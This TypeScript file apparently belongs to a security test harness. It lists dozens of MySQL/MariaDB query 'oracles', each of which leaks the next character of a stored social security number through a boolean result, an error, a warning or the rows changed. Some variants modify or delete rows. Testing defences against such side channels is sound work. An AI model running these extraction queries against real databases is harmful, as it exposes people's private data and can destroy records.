/** Ways to ask MySQL and MariaDB where the ssn of row 1 lies: see `../../attackers/oracles.ts`. */
import type { Oracle, Question } from '../../attackers/oracles.ts'

const quote = (text: string): string => `'${text.replaceAll('\\', '\\\\').replaceAll("'", "''")}'`
/** It starts with the prefix, followed by a character below the bound. */
const condition = ({ prefix, below }: Question, column = 'ssn'): string =>
  `${column} COLLATE utf8mb4_bin >= ${quote(prefix)} AND ${column} COLLATE utf8mb4_bin < ${quote(prefix + below)}`
const nextCode = ({ prefix, below }: Question): string =>
  `ORD(SUBSTR(ssn, ${prefix.length + 1}, 1)) < ${below.charCodeAt(0)}`

/** Expressions over row 1 that answer by their value, their error or their warning. */
const TOLD: readonly (readonly [name: string, (question: Question) => string])[] = [
  ['IF', (q) => `IF(${nextCode(q)}, 1, 0)`],
  ['CASE', (q) => `CASE WHEN ${nextCode(q)} THEN 1 ELSE 0 END`],
  ['NULLIF', (q) => `NULLIF(${nextCode(q)}, 0)`],
  ['ELT', (q) => `ELT(1 + (${nextCode(q)}), 'a', 'b')`],
  ['FIELD', (q) => `FIELD(${nextCode(q)}, 0, 1)`],
  ['overflow', (q) => `~0 + (${nextCode(q)})`],
  ['EXP', (q) => `EXP(710 * (${nextCode(q)}))`],
  ['EXTRACTVALUE', (q) => `EXTRACTVALUE('<a/>', IF(${nextCode(q)}, '/a', '//['))`],
  ['JSON path', (q) => `JSON_EXTRACT('{}', IF(${nextCode(q)}, '$', '$$'))`],
  ['JSON text', (q) => `JSON_LENGTH(IF(${nextCode(q)}, '[]', 'x'))`],
  ['two rows', (q) => `(SELECT 1 UNION ALL SELECT 2 FROM DUAL WHERE ${nextCode(q)})`],
  ['regular expression', (q) => `'a' REGEXP IF(${nextCode(q)}, 'a', '(')`],
  ['warning of a cast', (q) => `CAST(IF(${nextCode(q)}, '1', 'x') AS SIGNED)`],
  [
    'warning of a number',
    ({ prefix, below }) =>
      `CAST(ORD(SUBSTR(ssn, ${prefix.length + 1}, 1)) - ${below.charCodeAt(0)} + 1000 AS DECIMAL(3, 0))`,
  ],
  ['REPEAT', (q) => `LENGTH(REPEAT('a', 1 + (${nextCode(q)})))`],
]

export const ORACLES: readonly Oracle[] = [
  ...TOLD.map(([name, told]) => ({
    name,
    ask: (q: Question) => [`SELECT ${told(q)} FROM people WHERE id = 1`],
  })),
  ...TOLD.map(([name, told]) => ({
    name: `${name}, then its warnings`,
    ask: (q: Question) => [
      `SELECT ${told(q)} FROM people WHERE id = 1`,
      'SHOW COUNT(*) WARNINGS',
      `SELECT ${told(q)} FROM people WHERE id = 1`,
      'SHOW WARNINGS',
    ],
  })),
  ...(
    [
      ['range', (q) => `SELECT id FROM people WHERE id = 1 AND ${condition(q)}`],
      ['count of a range', (q) => `SELECT COUNT(*) FROM people WHERE id = 1 AND ${condition(q)}`],
      ['character code', (q) => `SELECT id FROM people WHERE id = 1 AND ${nextCode(q)}`],
      [
        'LIKE',
        ({ prefix, below }) =>
          `SELECT id FROM people WHERE id = 1 AND ssn LIKE BINARY ${quote(`${prefix}${below}%`)}`,
      ],
      ['SUM', (q) => `SELECT SUM(${nextCode(q)}) FROM people WHERE id = 1`],
      ['COUNT', (q) => `SELECT COUNT(NULLIF(${nextCode(q)}, 0)) FROM people WHERE id = 1`],
      ['HAVING', (q) => `SELECT 1 FROM people WHERE id = 1 HAVING MAX(${nextCode(q)})`],
      ['EXISTS', (q) => `SELECT EXISTS (SELECT 1 FROM people WHERE id = 1 AND ${condition(q)})`],
      ['IN', (q) => `SELECT 1 FROM dept WHERE 1 IN (SELECT id FROM people WHERE ${condition(q)})`],
      [
        'join',
        ({ prefix, below }) =>
          `SELECT x.v FROM people p JOIN (SELECT ${quote(prefix + below)} AS v) x ON p.ssn COLLATE utf8mb4_bin < x.v WHERE p.id = 1`,
      ],
      [
        'order against a constant',
        ({ prefix, below }) =>
          `SELECT n FROM (SELECT 1 AS n, ssn AS v FROM people WHERE id = 1 UNION ALL SELECT 2, ${quote(prefix + below)}) s ORDER BY v COLLATE utf8mb4_bin LIMIT 1`,
      ],
      [
        'GREATEST',
        ({ prefix, below }) =>
          `SELECT GREATEST(ssn, ${quote(prefix + below)} COLLATE utf8mb4_bin) = ssn FROM people WHERE id = 1`,
      ],
      ['GROUP BY', (q) => `SELECT COUNT(*) FROM people WHERE id IN (1, 7) GROUP BY ${nextCode(q)}`],
      ['set operation', (q) => `SELECT 1 EXCEPT SELECT ${nextCode(q)} FROM people WHERE id = 1`],
      [
        'recursive query',
        (q) =>
          `WITH RECURSIVE r (n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r WHERE n < 3 AND EXISTS (SELECT 1 FROM people WHERE id = 1 AND ${condition(q)})) SELECT n FROM r`,
      ],
      ['DO', (q) => `DO (SELECT ~0 + (${nextCode(q)}) FROM people WHERE id = 1)`],
      ['rows of an UPDATE', (q) => `UPDATE people SET city = 'x' WHERE id = 1 AND ${condition(q)}`],
      [
        'rows of a DELETE',
        (q) => `DELETE FROM accounts WHERE id = 1 AND ${condition(q, 'owner_ssn')}`,
      ],
      [
        'INSERT … SELECT',
        (q) => `INSERT INTO notes (id) SELECT 500 FROM people WHERE id = 1 AND ${condition(q)}`,
      ],
      [
        'ON DUPLICATE KEY',
        (q) =>
          `INSERT INTO people (id) VALUES (1) ON DUPLICATE KEY UPDATE city = IF(${nextCode(q)}, 'x', city)`,
      ],
      [
        'changed rows',
        ({ below }) =>
          `UPDATE people SET ssn = GREATEST(ssn, ${quote(below)} COLLATE utf8mb4_bin) WHERE id = 1`,
      ],
    ] as const satisfies readonly (readonly [string, (q: Question) => string])[]
  ).map(([name, text]) => ({ name, ask: (q: Question) => [text(q)] })),
]
